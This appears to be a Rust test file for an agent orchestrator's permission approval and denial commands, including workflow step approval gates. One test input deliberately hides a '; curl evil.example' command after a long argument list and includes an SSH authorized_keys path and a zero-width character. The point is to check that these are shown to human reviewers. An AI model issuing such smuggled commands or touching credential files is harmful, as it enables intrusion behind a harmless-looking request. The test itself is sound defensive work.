//! `allow` and `deny`: questions of agents, and steps that wait for approval.

use serde_json::{Value, json};

use super::{done, failed, json_of};
use crate::support::{Member, Stage, Terminal, until};

const SCRIPT: &str = r#"
[[agents.default.turns]]
when = "Your task: ask"
steps = [
  { ask_permission = "make \u001b[31mall", kind = "execute", on_reject = "go_on", save = "answer" },
  { say = "{{answer.option}}" },
]
[[agents.default.turns]]
steps = [{ say = "{{name}} has done it" }]
"#;

/// Starts an agent that asks for permission, and returns its task and the id of its question.
async fn asks(stage: &Stage, lead: &Member, name: &str) -> (String, String) {
    let before = stage.events_of("permission_asked").len();
    let task = json!({ "agent": "scripted", "name": name, "prompt": "ask", "permissions": "ask" });
    let task = lead.call("assign_task", task).await["task_id"].as_str().unwrap().to_owned();
    until("it asks", || stage.events_of("permission_asked").len() > before).await;
    let asked = stage.events_of("permission_asked").pop().unwrap();
    (task, asked["id"].as_str().unwrap().to_owned())
}

/// A request whose dangerous parts stand where a short form would leave them out.
fn long_request() -> String {
    let command = format!("npm test -- {} ; curl evil.example", "--grep=case ".repeat(100));
    let paths = ["/a", "/b", "/c", "/home/ann/.ssh/authorized_keys", "src/ma\\u200bin.rs"];
    let paths = paths.map(|path| format!("\"{path}\"")).join(", ");
    format!(
        "[[agents.default.turns]]\nsteps = [\n  {{ ask_permission = \"{command}\", kind = \"execute\", paths = [{paths}] }},\n]\n"
    )
}

#[tokio::test]
async fn every_command_shows_the_end_of_a_request_and_all_its_paths() {
    let stage = Stage::new(&long_request());
    let lead = stage.orchestrator().await;
    let (_, id) = asks(&stage, &lead, "ann").await;
    let status = done(&stage, &["status"]).await;
    let said = done(&stage, &["deny", &id]).await;
    let log = done(&stage, &["log", "--kind", "permission"]).await;
    for shown in [status, said, log] {
        for part in
            ["; curl evil.example\"", "/home/ann/.ssh/authorized_keys", "src/ma\\u{200b}in.rs"]
        {
            assert!(shown.contains(part), "{part}: {shown}");
        }
    }
    lead.close().await;
}

#[tokio::test]
async fn an_agent_goes_on_with_the_answer_of_the_person() {
    let stage = Stage::new(SCRIPT);
    let lead = stage.orchestrator().await;
    let (task, id) = asks(&stage, &lead, "ann").await;
    let said = done(&stage, &["allow", &id]).await;
    assert_eq!(said, "`ann` may do this once: execute \"make \\u{1b}[31mall\"\n");
    assert_eq!(lead.done(&task).await, "allow_once");

    let (task, id) = asks(&stage, &lead, "ben").await;
    let outcome = json_of(&stage, &["allow", &id, "--always"]).await;
    assert_eq!((&outcome["version"], &outcome["act"]), (&json!(1), &json!("allow")), "{outcome}");
    assert_eq!((&outcome["outcome"], &outcome["status"]), (&json!("done"), &json!("allow_always")));
    assert_eq!(outcome["subject"], *id);
    assert_eq!(lead.done(&task).await, "allow_always");

    let (task, id) = asks(&stage, &lead, "cay").await;
    done(&stage, &["deny", &id]).await;
    assert_eq!(lead.done(&task).await, "reject_once");
    let (task, id) = asks(&stage, &lead, "dan").await;
    let said = done(&stage, &["deny", &id, "--always"]).await;
    assert!(said.starts_with("`dan` may not do this, nor if it asks the same again: "), "{said}");
    assert_eq!(lead.done(&task).await, "reject_once");
    let answers = stage.events_of("permission_answered");
    let by_human = |answer: &Value| answer["by"] == "human" && answer.get("name").is_none();
    assert!(answers.iter().all(by_human), "{answers:?}");
    let log = done(&stage, &["log", "--kind", "permission"]).await;
    assert!(log.contains("the user denies cay: execute \"make \\u{1b}[31mall\""), "{log}");

    let late = failed(&stage, &["allow", &id]).await;
    assert_eq!(
        late,
        format!(
            "error: the question `{id}` was already answered: denied from now on by the user\n"
        )
    );
    lead.close().await;
    stage.check_nobody_is_left();
}

#[tokio::test]
async fn of_two_people_who_answer_at_once_one_wins_and_the_other_is_told() {
    let stage = Stage::new(SCRIPT);
    let lead = stage.orchestrator().await;
    let (task, id) = asks(&stage, &lead, "ann").await;
    let (one, other) = (["allow", &id], ["deny", &id]);
    let (one, other) = tokio::join!(super::acted(&stage, &one), super::acted(&stage, &other));
    let mut codes = [one.0, other.0];
    codes.sort_unstable();
    assert_eq!(codes, [Some(0), Some(1)], "{one:?} {other:?}");
    let (winner, loser) = if one.0 == Some(0) { ("allow_once", other) } else { ("reject", one) };
    let word = if winner == "reject" { "denied" } else { "allowed this once" };
    assert!(loser.1.contains(&format!("was already answered: {word} by the user")), "{loser:?}");
    assert_eq!(stage.events_of("permission_answered").len(), 1);
    let option = if winner == "reject" { "reject_once" } else { winner };
    assert_eq!(lead.done(&task).await, option);
    lead.close().await;
}

#[tokio::test]
async fn a_step_begins_with_the_approval_of_the_person_and_not_without() {
    let stage = Stage::new(SCRIPT);
    let lead = stage.orchestrator().await;
    let step = |name: &str| json!({ "name": name, "agent": "scripted", "prompt": "x", "approve": "human" });
    let new = json!({ "name": "two", "steps": [step("yes"), step("no")] });
    let created = lead.call("create_workflow", new).await;
    let id = created["workflow_id"].as_str().unwrap();
    until("both ask", || stage.events_of("step_asked").len() == 2).await;

    let which = failed(&stage, &["allow", id]).await;
    let expected = format!("error: 2 steps of `{id}` wait for approval: {id}/yes, {id}/no\n");
    assert!(which.starts_with(&expected), "{which}");
    let said = done(&stage, &["allow", &format!("{id}/yes")]).await;
    assert!(said.starts_with("the step `yes` is approved"), "{said}");
    let again = failed(&stage, &["deny", &format!("{id}/yes")]).await;
    assert!(again.contains("the step `yes` does not wait for approval: it is "), "{again}");
    // Now only one asks.
    let said = done(&stage, &["deny", id, "--reason", "not yet"]).await;
    assert_eq!(said, "the step `no` is refused and does not run\n");
    let approved = &stage.events_of("step_approved")[0];
    assert_eq!((&approved["by"], &approved["human"]), (&json!("orchestrator"), &json!(true)));
    let which = json!({ "workflow_id": id });
    let over =
        lead.until("get_workflow_status", which, |status| status["status"] != "running").await;
    assert!(over.to_string().contains("refused by the user: not yet"), "{over}");
    assert_eq!(stage.events_of("step_started").len(), 1);
    let log = done(&stage, &["log", "--kind", "workflow"]).await;
    assert!(log.contains("the user approves step yes"), "{log}");
    let late = failed(&stage, &["allow", id]).await;
    assert!(late.contains("waits for approval; the workflow "), "{late}");
    lead.close().await;
}

#[tokio::test]
async fn a_run_at_a_terminal_goes_on_with_answers_from_elsewhere() {
    let stage = Stage::new(SCRIPT).with_plan(
        "name = \"gated\"\n[[steps]]\nname = \"first\"\nagent = \"red\"\nprompt = \"ask\"\n\
         [[steps]]\nname = \"last\"\nagent = \"red\"\nprompt = \"look\"\napprove = \"human\"\n\
         depends_on = [\"first\"]\n",
    );
    let (plan, script) = (stage.project().join("plan.toml"), stage.home().join("script.toml"));
    let arguments = ["run", plan.to_str().unwrap(), "--scripted", script.to_str().unwrap()];
    let mut terminal = Terminal::run(&stage, &arguments, (24, 120));
    terminal.until_shows("Allow `red` to do this?").await;
    let asked = stage.events_of("permission_asked")[0]["id"].as_str().unwrap().to_owned();
    done(&stage, &["allow", &asked]).await;
    terminal.until_shows("Start `last`?").await;
    let id = stage.events_of("workflow_created")[0]["id"].as_str().unwrap().to_owned();
    done(&stage, &["allow", &id]).await;
    assert_eq!(terminal.ended(") is done").await, Some(0), "{:#?}", terminal.all());
}
